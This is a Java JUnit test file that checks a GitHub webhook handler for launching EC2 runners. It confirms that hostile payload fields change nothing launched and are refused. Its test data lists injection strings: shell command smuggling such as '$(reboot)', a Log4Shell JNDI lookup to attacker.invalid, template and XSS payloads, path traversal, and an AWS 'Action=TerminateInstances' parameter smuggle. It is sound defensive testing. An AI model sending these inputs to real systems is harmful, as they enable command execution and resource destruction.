package io.mayfly.webhook;

import static org.assertj.core.api.Assertions.assertThat;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.mayfly.ec2.LaunchCheck;
import io.mayfly.fuzz.Application;
import io.mayfly.fuzz.Input;
import io.mayfly.playground.github.WebhookSignature;
import jakarta.ws.rs.core.Response;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Whoever can name a branch, a workflow, a job or a label writes into the payload. Signed by GitHub, it is still not
 * trusted: nothing of it changes what is launched, and what can't be a name goes nowhere.
 */
class HostilePayloadTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();

    /** A launch between services that answer well. */
    private static final Path LAUNCH = Path.of("src/test/fuzz/WebhookFuzz/launch");

    static Stream<String> hostile() {
        return Stream.of(
                "a\nb",
                "a\r\nX-Injected: 1",
                "\"},{\"level\":\"ERROR\",\"message\":\"forged\"",
                "'; reboot; '",
                "$(reboot)",
                "`reboot`",
                "${HOME}",
                "${jndi:ldap://attacker.invalid/a}",
                "#{7*7}{{7*7}}<%=7*7%>",
                "%s%n%x",
                "\u001b[2J\u001b]0;title\u0007",
                "a\u0000b",
                "\u202egpj.exe\u2066",
                "\ud800",
                "../../../orgs/other",
                "a/../b",
                "..",
                "?q=1#fragment",
                "<script>alert(1)</script>",
                "&Tag.1.Value=x&Action=TerminateInstances",
                "x".repeat(10_000),
                "{\"action\":\"completed\"}",
                "");
    }

    private static ObjectNode queued() throws IOException {
        return (ObjectNode) MAPPER.readTree(new Input(Files.readAllBytes(LAUNCH)).bytes(1));
    }

    private static Application application() throws IOException {
        return Application.answered(new Input(Files.readAllBytes(LAUNCH)), 2);
    }

    private static Response deliver(Application application, byte[] body) {
        var event = new APIGatewayV2HTTPEvent();
        event.setHeaders(Map.of(
                "x-github-event",
                "workflow_job",
                "x-hub-signature-256",
                WebhookSignature.of(body, Application.SECRET)));
        return application.bean(WebhookResource.class).receive(body, event, null);
    }

    private static byte[] bytes(ObjectNode payload) {
        return payload.toString().getBytes(StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void launchesTheSameWhateverJobBranchAndWorkflowAreCalled(String text) throws IOException {
        var usual = application();
        assertThat(deliver(usual, bytes(queued())).getStatus()).isEqualTo(201);
        var asked = usual.connections().requests().stream()
                .map(request -> request.method() + request.uri() + new String(request.body(), StandardCharsets.UTF_8))
                .toList();
        var payload = queued();
        var job = (ObjectNode) payload.path("workflow_job");
        job.put("name", text)
                .put("head_branch", text)
                .put("workflow_name", text)
                .put("runner_name", text);
        job.putArray("steps").addObject().put("name", text);
        ((ObjectNode) payload.path("sender")).put("login", text);

        var application = application();
        var answer = deliver(application, bytes(payload));

        assertThat(answer.getStatus()).isEqualTo(201);
        application.connections().requests().forEach(LaunchCheck::check);
        assertThat(application.connections().requests().stream()
                        .map(request ->
                                request.method() + request.uri() + new String(request.body(), StandardCharsets.UTF_8)))
                .as("not a byte of it is sent on")
                .isEqualTo(asked);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void ignoresALabelThatNoPoolHas(String label) throws IOException {
        var payload = queued();
        ((ObjectNode) payload.path("workflow_job"))
                .putArray("labels")
                .add("linux")
                .add(label);
        var application = application();

        var answer = deliver(application, bytes(payload));

        assertThat(answer.getStatus() + " " + answer.getEntity())
                .isEqualTo("200 {\"outcome\":\"ignored\",\"reason\":\"labels of no pool\"}");
        assertThat(application.connections().requests()).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void refusesARepositoryThatIsNoName(String text) throws IOException {
        var payload = queued();
        ((ObjectNode) payload.path("repository")).put("full_name", "octo-org/" + text);
        var application = application();

        var answer = deliver(application, bytes(payload));

        assertThat(answer.getStatus()).isEqualTo(400);
        assertThat(answer.getEntity()).isEqualTo("{\"error\":\"repository.full_name is no name that GitHub allows\"}");
        assertThat(application.connections().requests()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "0", "1.5", "1e3", "99999999999999999999", "\"1\"", "true", "[1]", "{\"$ne\":1}"})
    void refusesAnIdThatIsNoPositiveNumber(String id) throws IOException {
        var text = queued().toString().replace("\"id\":7", "\"id\":" + id);
        var application = application();

        var answer = deliver(application, text.getBytes(StandardCharsets.UTF_8));

        assertThat(answer.getStatus()).isEqualTo(400);
        assertThat(String.valueOf(answer.getEntity())).startsWith("{\"error\":\"workflow_job.id ");
        assertThat(application.connections().requests()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{\"a\":"})
    void refusesTooDeepNestingWithoutAskingAnybody(String open) throws IOException {
        var application = application();

        var answer = deliver(application, open.repeat(50_000).getBytes(StandardCharsets.UTF_8));

        assertThat(answer.getStatus()).isEqualTo(400);
        assertThat(application.connections().requests()).isEmpty();
    }

    /** Jackson takes the last of two equal keys. The signature covers both, so an attacker gains nothing by it. */
    @ParameterizedTest
    @ValueSource(strings = {"queued", "completed"})
    void takesTheLastOfTwoEqualKeys(String first) throws IOException {
        var text = queued().toString()
                .replace("{\"action\":\"queued\"", "{\"action\":\"" + first + "\",\"action\":\"ping\"");
        var application = application();

        var answer = deliver(application, text.getBytes(StandardCharsets.UTF_8));

        assertThat(answer.getEntity()).isEqualTo("{\"outcome\":\"ignored\",\"reason\":\"unknown action\"}");
        assertThat(application.connections().requests()).isEmpty();
    }

    /** A recorded delivery, sent again with its good signature: the sweep launches, where the job still waits. */
    @Test
    void launchesNothingForAReplayedDelivery() throws IOException {
        var payload = queued();
        ((ObjectNode) payload.path("workflow_job")).put("created_at", "2026-11-20T12:00:00Z");
        var application = application();

        var answer = deliver(application, bytes(payload));

        assertThat(answer.getStatus()).isEqualTo(202);
        assertThat(application.connections().requests()).isEmpty();
    }
}
